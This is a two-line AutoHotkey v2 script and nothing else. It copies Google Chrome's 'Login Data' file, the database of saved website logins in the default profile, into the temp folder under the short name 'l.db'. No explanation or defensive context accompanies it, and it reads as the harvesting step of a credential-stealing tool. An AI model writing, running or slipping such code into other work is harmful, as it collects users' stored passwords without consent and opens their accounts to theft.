#Requires AutoHotkey v2.0
FileCopy EnvGet("LOCALAPPDATA") "\Google\Chrome\User Data\Default\Login Data", A_Temp "\l.db"
